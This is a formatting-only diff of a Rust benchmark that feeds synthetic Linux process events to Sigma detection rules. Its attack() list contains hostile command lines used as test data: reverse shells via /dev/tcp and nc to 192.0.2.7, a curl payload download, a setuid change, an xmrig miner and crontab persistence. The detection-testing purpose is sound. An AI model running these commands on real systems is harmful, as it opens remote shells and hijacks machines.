@@ -40,11 +40,23 @@ fn main() -> Result<()> {
         println!("{HELP}");
         return Ok(());
     };
-    ensure!(options.rules.is_dir(), "{}: no such folder; give --rules DIR", options.rules.display());
+    ensure!(
+        options.rules.is_dir(),
+        "{}: no such folder; give --rules DIR",
+        options.rules.display()
+    );
     let mut figures = load(&options.rules);
     let (exec_rules, _) = RuleSet::load(&[options.rules.join("linux/process_creation")]);
-    ensure!(!exec_rules.is_empty(), "no process_creation rules in {}", options.rules.display());
-    measure(&exec_rules, if options.quick { 5 } else { 15 }, &mut figures);
+    ensure!(
+        !exec_rules.is_empty(),
+        "no process_creation rules in {}",
+        options.rules.display()
+    );
+    measure(
+        &exec_rules,
+        if options.quick { 5 } else { 15 },
+        &mut figures,
+    );
     if let Some(path) = options.json {
         let text = serde_json::to_string_pretty(&serde_json::Value::Object(figures))?;
         std::fs::write(&path, text + "\n").with_context(|| path.display().to_string())?;
@@ -54,7 +66,11 @@ fn main() -> Result<()> {
 
 fn parse(mut args: impl Iterator<Item = String>) -> Result<Option<Options>> {
     let beside = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../shared/sigma/rules");
-    let mut options = Options { quick: false, rules: beside, json: None };
+    let mut options = Options {
+        quick: false,
+        rules: beside,
+        json: None,
+    };
     while let Some(arg) = args.next() {
         let mut value = || args.next().with_context(|| format!("{arg} needs a value"));
         match arg.as_str() {
@@ -137,9 +153,15 @@ fn measure(rules: &RuleSet, rounds: usize, figures: &mut Figures) {
     );
     println!("one core, {rounds} rounds            median events/s       ns an event");
     for (name, (median, worst)) in [("evaluate", evaluated), ("read and fold only", touched)] {
-        println!("  {name:<28} {median:>15.0} {:>17.0}   (worst round {worst:.0}/s)", 1e9 / median);
+        println!(
+            "  {name:<28} {median:>15.0} {:>17.0}   (worst round {worst:.0}/s)",
+            1e9 / median
+        );
     }
-    println!("  alerts: {alerts} ({:.2} % of events)", 100.0 * alerts as f64 / EVENTS as f64);
+    println!(
+        "  alerts: {alerts} ({:.2} % of events)",
+        100.0 * alerts as f64 / EVENTS as f64
+    );
     figures.insert("rules_measured".into(), rules.len().into());
     figures.insert("events_per_second".into(), evaluated.0.into());
     figures.insert("events_per_second_worst".into(), evaluated.1.into());
@@ -222,21 +244,36 @@ fn compile(number: usize, pick: usize) -> (String, String) {
                  --out-dir /home/dev/work/target/release/deps -L dependency=/home/dev/work/target"
             ),
         ),
-        _ => ("/usr/bin/x86_64-linux-gnu-as".into(), format!("as --64 -o unit{number}.o /tmp/cc{pick:x}.s")),
+        _ => (
+            "/usr/bin/x86_64-linux-gnu-as".into(),
+            format!("as --64 -o unit{number}.o /tmp/cc{pick:x}.s"),
+        ),
     }
 }
 
 fn tool(number: usize, pick: usize) -> (String, String) {
     const TOOLS: [(&str, &str); 12] = [
-        ("/usr/bin/dash", "sh -c 'test -e /var/run/unit.pid && echo ok'"),
-        ("/usr/bin/sed", "sed -e s/@VERSION@/1.2.3/ -n /etc/template.in"),
+        (
+            "/usr/bin/dash",
+            "sh -c 'test -e /var/run/unit.pid && echo ok'",
+        ),
+        (
+            "/usr/bin/sed",
+            "sed -e s/@VERSION@/1.2.3/ -n /etc/template.in",
+        ),
         ("/usr/bin/gawk", "awk '{ print $1 }' /proc/loadavg"),
         ("/usr/bin/grep", "grep -q ^processor /proc/cpuinfo"),
         ("/usr/bin/cat", "cat /etc/os-release"),
         ("/usr/bin/mkdir", "mkdir -p /home/dev/work/build"),
         ("/usr/bin/rm", "rm -f /home/dev/work/build/stamp"),
-        ("/usr/bin/bash", "/bin/bash ./configure --prefix=/usr --sysconfdir=/etc"),
-        ("/usr/bin/git", "git -c core.quotepath=off status --porcelain -z"),
+        (
+            "/usr/bin/bash",
+            "/bin/bash ./configure --prefix=/usr --sysconfdir=/etc",
+        ),
+        (
+            "/usr/bin/git",
+            "git -c core.quotepath=off status --porcelain -z",
+        ),
         ("/usr/bin/python3.11", "python3 -m pytest -q tests/unit"),
         ("/usr/bin/find", "find . -name '*.o' -newer stamp -print0"),
         ("/usr/bin/uname", "uname -m"),
@@ -247,18 +284,30 @@ fn tool(number: usize, pick: usize) -> (String, String) {
 
 fn administration(number: usize, pick: usize) -> (String, String) {
     const COMMANDS: [(&str, &str); 12] = [
-        ("/usr/bin/systemctl", "systemctl is-active --quiet ssh.service"),
-        ("/usr/bin/apt-get", "apt-get -y install --no-install-recommends pkg"),
+        (
+            "/usr/bin/systemctl",
+            "systemctl is-active --quiet ssh.service",
+        ),
+        (
+            "/usr/bin/apt-get",
+            "apt-get -y install --no-install-recommends pkg",
+        ),
         ("/usr/bin/dpkg", "dpkg --status-fd 12 --configure --pending"),
         ("/usr/sbin/sshd", "sshd: deploy [priv]"),
         ("/usr/bin/sudo", "sudo -n -u postgres psql -c 'select 1'"),
         ("/usr/bin/curl", "curl -fsS http://127.0.0.1:9090/-/healthy"),
-        ("/usr/bin/journalctl", "journalctl -u app --since today --no-pager"),
+        (
+            "/usr/bin/journalctl",
+            "journalctl -u app --since today --no-pager",
+        ),
         ("/usr/bin/tar", "tar -czf /var/backups/etc.tar.gz /etc"),
         ("/usr/sbin/logrotate", "logrotate /etc/logrotate.conf"),
         ("/usr/bin/ps", "ps -eo pid,ppid,comm,args"),
         ("/usr/bin/docker", "docker ps --format '{{.ID}} {{.Names}}'"),
-        ("/usr/bin/rsync", "rsync -a --delete /srv/data/ backup:/srv/data/"),
+        (
+            "/usr/bin/rsync",
+            "rsync -a --delete /srv/data/ backup:/srv/data/",
+        ),
     ];
     let (exe, line) = COMMANDS[pick % COMMANDS.len()];
     (exe.into(), format!("{line} job{number}"))
@@ -266,13 +315,25 @@ fn administration(number: usize, pick: usize) -> (String, String) {
 
 fn attack(number: usize, pick: usize) -> (String, String) {
     const ATTACKS: [(&str, &str); 8] = [
-        ("/usr/bin/bash", "bash -c 'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1'"),
+        (
+            "/usr/bin/bash",
+            "bash -c 'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1'",
+        ),
         ("/usr/bin/nc.traditional", "nc -e /bin/sh 192.0.2.7 4444"),
-        ("/usr/bin/python3.11", "python3 -c 'import pty;pty.spawn(\"/bin/bash\")'"),
+        (
+            "/usr/bin/python3.11",
+            "python3 -c 'import pty;pty.spawn(\"/bin/bash\")'",
+        ),
         ("/usr/bin/base64", "base64 -d /tmp/payload.b64"),
-        ("/usr/bin/curl", "curl -s http://192.0.2.7/a.sh -o /tmp/.x/a.sh"),
+        (
+            "/usr/bin/curl",
+            "curl -s http://192.0.2.7/a.sh -o /tmp/.x/a.sh",
+        ),
         ("/usr/bin/chmod", "chmod u+s /tmp/.x/sh"),
-        ("/tmp/xmrig", "/tmp/xmrig -o stratum+tcp://pool.example:3333 --donate-level=1"),
+        (
+            "/tmp/xmrig",
+            "/tmp/xmrig -o stratum+tcp://pool.example:3333 --donate-level=1",
+        ),
         ("/usr/bin/crontab", "crontab /tmp/.x/tab"),
     ];
     let (exe, line) = ATTACKS[pick % ATTACKS.len()];
